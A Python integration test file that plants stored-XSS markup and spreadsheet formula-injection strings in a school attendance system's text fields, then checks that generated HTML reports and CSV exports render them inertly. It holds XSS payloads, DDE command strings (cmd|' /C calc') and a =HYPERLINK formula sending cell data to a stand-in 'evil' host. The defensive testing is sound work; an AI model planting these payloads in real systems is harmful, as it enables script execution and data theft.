"""Issue 18, point 2: text from the SIS or the conf never becomes markup in a page (stored XSS).

Every SIS text field that reaches a page gets a payload: the school's name, its bell schedules'
and periods' names, its attendance codes' letters and descriptions, its students' numbers (the
column made text, as a district's may be), comments, term names, a bridge pref's value and a
presence status (in the refused runs), and a conf key. Then real runs write their pages: a sync
that loads and its rollback, runs refused by the Great Expectations gate (P4, P5, P6 at once)
and by ``check_parameters``, and the end-of-term run whose district summary names a failed
school. Every HTML file under the reports base must hold no payload as markup, and headless
Chromium opening the pages (our own, and Great Expectations' Data Docs, validation pages
included) must run none of them: a payload that runs appends ``XSS`` + ``RAN`` to the page, which
``--dump-dom`` shows. The same payload, written raw into a page by the test, shows the detector
works. Administrators still read the plain text: the refusal in the JSON, the run log and the
page is the name as the SIS holds it, never ``&lt;``.

Issue 30 (SIS text becomes a spreadsheet formula): every SIS text that reaches a detail CSV (a code's
letter and description, the blank code's description, the student numbers) starts with a formula
too, each trigger of OWASP's list in some cell. Every cell of every CSV the runs wrote, read with
Python's csv module as a spreadsheet reads it, starts with none of them unless it is a number, and
the run page still shows the text as the SIS holds it, escaped once.
"""

from __future__ import annotations

import csv
import html
import json
import re
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import markupsafe
import pytest
from attendance_bridge.checks.data_docs import with_policy
from attendance_bridge.reporting.publish import ROWS_SHOWN
from attendance_bridge.reporting.run_folders import run_folder_name

from tests.reporting.test_pages_in_browser import open_in_browser
from tests.support.sync_sandbox import Sandbox, parsed_dag, run_sync
from tests.tasks.test_end_of_term import TERM_END_RUN, run_end_of_term, summary_of
from tests.tasks.test_rollback import run_rollback

pytestmark = pytest.mark.integration

# What a payload that runs leaves in the page (never written as such: the payload builds it).
EXECUTED = "XSSRAN"
RUNS = "document.body.append('XSS'+'RAN')"


def payload(field: str) -> str:
    """Markup that runs when it is markup: an svg's onload, a script, an img's onerror; quotes to leave an attribute."""
    return f'<b>{field}</b>"\'><svg onload={RUNS}><script>{RUNS}</script><img src=x onerror="{RUNS}">&amp;'


# Whatever a page shows as text, none of these may be in its source.
MARKUP = ("<svg onload", f"<script>{RUNS}", "<img src=x onerror", "<b>")

# Issue 30: what a spreadsheet runs, before the markup of each SIS text that reaches a CSV. The review's
# pair: a code and its description that made a working formula in the code's cell ("T (Tardy)").
FORMULA_CODE = '=HYPERLINK("http://evil?"&B2&C2,"x")&T("'
FORMULA_DESCRIPTION = '")&"'
# The blank (Present) code's description starts its cell: "Present (no code)".
FORMULA_PRESENT = "@SUM(1+1)*cmd|' /C calc'!A0"
# A student number starts its cell: each student gets one of these (by id), so every trigger is in a CSV.
FORMULA_STUDENT_NUMBERS = ("+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
# OWASP's triggers; a cell starting with one runs in a spreadsheet, unless it is a number.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def plant(box: Sandbox, school: int) -> dict[str, str]:
    """A payload in every SIS text field of ``school`` that a page can show; {field: payload}."""
    planted = {
        "school name": payload(f"school {school}"),
        "bell schedule": payload("schedule"),
        "period name": payload("period"),
        "period abbreviation": payload("per"),
        "code letter": FORMULA_CODE + payload("code"),
        "code description": FORMULA_DESCRIPTION + payload("description"),
        "present description": FORMULA_PRESENT + payload("present"),
        "student number": payload("student"),
        "comment": payload("comment"),
        "term name": payload("term"),
        "term abbreviation": payload("ter"),
    }
    box.q("UPDATE {sis}.schools SET name = %(v)s WHERE school_number = %(s)s", v=planted["school name"], s=school)
    # Each bell schedule keeps its own name after the payload: P5 must name the right one.
    box.q(
        "UPDATE {sis}.bell_schedule SET name = %(v)s || name WHERE schoolid = %(s)s",
        v=planted["bell schedule"],
        s=school,
    )
    box.q(
        "UPDATE {sis}.period SET name = %(n)s || name, abbreviation = %(a)s WHERE schoolid = %(s)s",
        n=planted["period name"], a=planted["period abbreviation"], s=school,
    )  # fmt: skip
    # A district's codes and numbers can be longer text than the demo schema allows.
    box.q("ALTER TABLE {sis}.attendance_code ALTER COLUMN att_code TYPE text")
    box.q("ALTER TABLE {sis}.attendance_code ALTER COLUMN presence_status_cd TYPE text")
    box.q("ALTER TABLE {sis}.students ALTER COLUMN student_number TYPE text")
    box.q(
        "UPDATE {sis}.attendance_code SET att_code = %(c)s || att_code, description = %(d)s || coalesce(description, '') "
        "WHERE schoolid = %(s)s AND coalesce(att_code, '') <> ''",
        c=planted["code letter"], d=planted["code description"], s=school,
    )  # fmt: skip
    box.q(
        "UPDATE {sis}.attendance_code SET description = %(d)s || coalesce(description, '') "
        "WHERE schoolid = %(s)s AND coalesce(att_code, '') = ''",
        d=planted["present description"], s=school,
    )  # fmt: skip
    box.q(
        "UPDATE {sis}.students SET student_number = (%(f)s::text[])[1 + id %% 4] || %(v)s || student_number "
        "WHERE schoolid = %(s)s",
        f=list(FORMULA_STUDENT_NUMBERS), v=planted["student number"], s=school,
    )  # fmt: skip
    box.q("UPDATE {sis}.attendance SET att_comment = %(v)s WHERE schoolid = %(s)s", v=planted["comment"], s=school)
    box.q(
        "UPDATE {sis}.terms SET name = %(n)s || name, abbreviation = %(a)s || coalesce(abbreviation, '') "
        "WHERE schoolid = %(s)s",
        n=planted["term name"], a=planted["term abbreviation"], s=school,
    )  # fmt: skip
    return planted


def csv_cells(base: Path) -> dict[Path, list[list[str]]]:
    """Every CSV under the reports base, read as a spreadsheet reads it: {file: rows of cells}."""
    read = {}
    for path in sorted(base.rglob("*.csv")):
        with path.open(newline="") as handle:
            read[path] = list(csv.reader(handle))
    return read


def assert_no_formula_in_any_csv(base: Path) -> dict[Path, list[list[str]]]:
    """No cell of any CSV starts with a trigger unless it is a number; the CSVs' cells."""
    read = csv_cells(base)
    formulas = [
        f"{path.relative_to(base)}: {cell!r}"
        for path, rows in read.items()
        for row in rows
        for cell in row
        if cell.startswith(TRIGGERS) and not NUMBER.fullmatch(cell)
    ]
    assert not formulas, formulas[:20]
    return read


def assert_the_page_shows_the_csv_text_as_the_sis_holds_it(page: Path, rows: list[list[str]]) -> list[str]:
    """Each neutralised cell of a CSV's first rows is on the run page without its quote, escaped once; those cells."""
    source = page.read_bytes().decode("utf-8")  # not read_text: it would make each \r a \n
    assert not re.search(r"<td[^>]*>&#39;[=+\-@\t\r]", source)  # no quote of the CSV's on the page
    neutralised = [cell for row in rows[1 : ROWS_SHOWN + 1] for cell in row if cell[1:].startswith(TRIGGERS)]
    for cell in neutralised:
        assert cell.startswith("'")
        assert f">{markupsafe.escape(cell[1:])}</td>" in source, cell
    return neutralised


def html_files(base: Path) -> list[Path]:
    return sorted(path for path in base.rglob("*.html") if path.is_file())


def assert_no_markup_from_the_data(base: Path, planted: dict[str, str]) -> None:
    """No written page holds a payload, or any part of one, as markup."""
    offenders = {
        f"{path.relative_to(base)}: {needle!r}"
        for path in html_files(base)
        for needle in (*planted.values(), *MARKUP)
        if needle in path.read_text(encoding="utf-8")
    }
    assert not offenders, sorted(offenders)[:20]


def pages_to_open(base: Path) -> list[Path]:
    """Every page a person opens: ours, and each Data Docs index and validation page (the suites' pages hold no data)."""
    return [path for path in html_files(base) if "/data_docs/expectations/" not in path.as_posix()]


def opened(pages: list[Path], profiles: Path) -> dict[Path, tuple[str, list[str]]]:
    """Each page's DOM after its scripts ran, and its console, four Chromiums at a time."""

    def one(numbered: tuple[int, Path]) -> tuple[str, list[str]]:
        number, page = numbered
        return open_in_browser(page, profiles / f"profile-{number}")

    with ThreadPoolExecutor(max_workers=4) as pool:
        return dict(zip(pages, pool.map(one, enumerate(pages)), strict=True))


def assert_nothing_runs(base: Path, profiles: Path) -> dict[Path, str]:
    """No payload runs in any page, and no page's own script is refused by its policy; the DOMs."""
    doms = opened(pages_to_open(base), profiles)
    ran = [str(page.relative_to(base)) for page, (dom, _) in doms.items() if EXECUTED in dom]
    assert not ran, ran
    for page, (dom, console) in doms.items():
        # Every page has its policy, and its own scripts are not what the policy refuses.
        assert 'http-equiv="Content-Security-Policy"' in dom, page
        assert not [line for line in console if "Uncaught" in line], (page, console)
        # Plain text, escaped once: never "&lt;" shown to the reader (the DOM would hold "&amp;lt;").
        assert "&amp;lt;" not in dom, page
    return {page: dom for page, (dom, _) in doms.items()}


def shown(text: str) -> str:
    """``text`` as a DOM dump holds it in an element's text: <, > and & escaped, quotes not."""
    return html.escape(text, quote=False)


def test_the_detector_sees_a_payload_that_runs_and_the_policy_stops_it(tmp_path: Path) -> None:
    # The same payload as markup, in a page without and with the Data Docs pages' policy.
    raw = f"<!DOCTYPE html><html><head><title>t</title></head><body><p>{payload('raw')}</p></body></html>"
    (tmp_path / "raw.html").write_text(raw)
    dom, _ = open_in_browser(tmp_path / "raw.html", tmp_path / "profile")
    assert EXECUTED in dom
    # With the policy, GX's own inline scripts and handlers still run (by hash); any other
    # handler does not, nor a script in a table cell, where GX writes the data.
    guarded = with_policy(
        "<!DOCTYPE html><html><head><title>t</title><script>function showAllValidations() "
        "{ document.body.append('GX'+'HANDLER'); }</script></head><body>"
        '<img src=x onerror="showAllValidations()">'
        f"<table><tr><td><div>{payload('raw')}</div></td></tr></table></body></html>"
    )
    (tmp_path / "guarded.html").write_text(guarded)
    dom, console = open_in_browser(tmp_path / "guarded.html", tmp_path / "profile")
    assert "GXHANDLER" in dom
    assert EXECUTED not in dom
    assert any("Content Security Policy" in line for line in console), console


def test_sis_text_in_a_sync_its_rollback_and_refused_runs_is_text_in_every_page(
    sandbox: Sandbox, sync_dag, rollback_dag, tmp_path: Path
) -> None:
    planted = plant(sandbox, 100)

    # A sync that loads (meeting_to_daily): the school's name, codes and student numbers on its page.
    state, loaded = run_sync(sync_dag, school_number=100, year=35)
    assert state == "success", loaded["message"]
    assert loaded["counts"]["inserted"] > 0
    assert loaded["school_name"] == planted["school name"]
    # ... then rolled back: its rollback page, and the sync's page again, saying so.
    state, undone = run_rollback(rollback_dag, school_number=100, run_id=loaded["run_id"])
    assert state == "success", undone["message"]

    # Refused by the gate: a bell schedule without a bridge period (P5), a bridge pref and a
    # presence status that are markup (P4, P6), each named in the refusal.
    sandbox.q("UPDATE {sis}.prefs SET value = %(v)s WHERE schoolid = 100 AND name = 'ATT_MeetingDailyBridge'",
              v=payload("pref"))  # fmt: skip
    sandbox.q(
        "UPDATE {sis}.bell_schedule_items SET daily_attendance_code = 0 WHERE bell_schedule_id IN "
        "(SELECT id FROM {sis}.bell_schedule WHERE schoolid = 100 AND name LIKE '%%Early Release')"
    )
    sandbox.q(
        "UPDATE {sis}.attendance_code SET presence_status_cd = %(v)s WHERE schoolid = 100 AND att_code LIKE '%%T'",
        v=payload("status"),
    )
    state, refused = run_sync(sync_dag, school_number=100, year=35)
    assert state == "failed"
    message = refused["message"]
    # The plain names, as the SIS holds them, in the report's JSON and the run log.
    assert message.startswith(f"P4 failed for school 100: the Meeting and Daily Attendance Bridge "
                              f"(ATT_MeetingDailyBridge) of school 100 is set to '{payload('pref')}'")  # fmt: skip
    assert f"P5 failed for school 100: the bell schedule '{planted['bell schedule']}Early Release' (id " in message
    assert f"P6 failed for school 100: the attendance code '{planted['code letter']}T' (id " in message
    assert f"has presence status '{payload('status')}'" in message
    assert sandbox.q("SELECT message FROM {pipeline}.run_log WHERE run_id = %(r)s", r=refused["run_id"]) == [(message,)]
    # Refused by check_parameters: a conf key that is markup, named in the refusal.
    state, typo = run_sync(sync_dag, school_number=100, year=35, **{payload("conf"): 1})
    assert state == "failed" and typo["message"].startswith("Run parameter ")
    assert "this run does not know the parameter(s)" in typo["message"] and "<b>conf</b>" in typo["message"]

    assert_no_markup_from_the_data(sandbox.reports, {**planted, "conf": payload("conf")})
    doms = assert_nothing_runs(sandbox.reports, tmp_path)

    # What the administrator reads: the plain text, escaped once.
    refused_page = doms[sandbox.reports / "school_100" / run_folder_name(refused["dag_id"], refused["run_id"]) / "report.html"]
    assert shown(message) in refused_page
    loaded_page = doms[sandbox.reports / "school_100" / run_folder_name(loaded["dag_id"], loaded["run_id"]) / "report.html"]
    assert shown(planted["school name"]) in loaded_page
    assert shown(planted["code letter"]) in loaded_page and shown(planted["student number"]) in loaded_page

    # Issue 30: the CSVs hold no formula a spreadsheet runs, and the page shows the text as the SIS holds it.
    cells = assert_no_formula_in_any_csv(sandbox.reports)
    loaded_folder = sandbox.reports / "school_100" / run_folder_name(loaded["dag_id"], loaded["run_id"])
    assert {path.parent for path in cells} == {loaded_folder}  # the refused runs and the rollback write none
    shown_cells = [
        cell
        for path, rows in cells.items()
        for cell in assert_the_page_shows_the_csv_text_as_the_sis_holds_it(loaded_folder / "report.html", rows)
    ]
    starts = {cell[:2] for cell in shown_cells}
    assert starts == {"'=", "'@", "'+", "'-", "'\t", "'\r"}, starts  # every trigger reached a CSV, and the page
    code_cell = f"{planted['code letter']}T ({planted['code description']}Tardy)"
    assert f">{shown(code_cell)}</td>" in loaded_page  # the review's formula, as text in the browser
    assert f">{shown(planted['present description'])}Present (no code)</td>" in loaded_page
    typo_page = doms[sandbox.reports / "school_100" / run_folder_name(typo["dag_id"], typo["run_id"]) / "report.html"]
    assert shown(typo["message"]) in typo_page
    assert shown(json.dumps(payload("conf"), ensure_ascii=False)) in typo_page  # the conf as given
    # Great Expectations' pages of the refused run show the names as text too.
    site = sandbox.reports / "school_100" / run_folder_name(refused["dag_id"], refused["run_id"]) / "data_docs"
    validation = {page.relative_to(site / "validations").parts[0]: dom for page, dom in doms.items()
                  if page.is_relative_to(site / "validations")}  # fmt: skip
    assert (
        shown(f"the bell schedule '{planted['bell schedule']}Early Release'")
        in validation["preconditions_bell_schedules"]
    )
    assert shown(payload("pref")) in validation["preconditions_school_settings"]
    assert shown(payload("status")) in validation["preconditions_attendance_codes"]


def test_sis_text_in_the_district_summary_is_text(sandbox: Sandbox, tmp_path: Path) -> None:
    planted = plant(sandbox, 200)
    # Roosevelt Middle's Regular bell schedule loses its bridge period (P5): it fails, and the
    # summary names it, its terms and the reason.
    sandbox.q(
        "UPDATE {sis}.bell_schedule_items SET daily_attendance_code = 0 WHERE daily_attendance_code = 1 "
        "AND bell_schedule_id IN (SELECT id FROM {sis}.bell_schedule WHERE schoolid = 200 AND name LIKE '%%Regular')"
    )

    run = run_end_of_term(parsed_dag("attendance_bridge_end_of_term"), TERM_END_RUN)

    assert str(run.state) == "failed"
    summary = summary_of(sandbox, run)
    [failed] = summary["failed"]
    assert failed["school_number"] == 200 and failed["school_name"] == planted["school name"]
    assert f"the bell schedule '{planted['bell schedule']}Regular'" in failed["reason"]
    assert_no_markup_from_the_data(sandbox.reports, planted)
    doms = assert_nothing_runs(sandbox.reports, tmp_path)
    page = doms[sandbox.reports / "district" / run_folder_name(run.dag_id, run.run_id) / "summary.html"]
    assert shown(planted["school name"]) in page and shown(planted["term name"]) in page
    assert shown(failed["reason"]) in page
    assert re.search(r"Content-Security-Policy\" content=\"[^\"]*script-src 'none'", page)
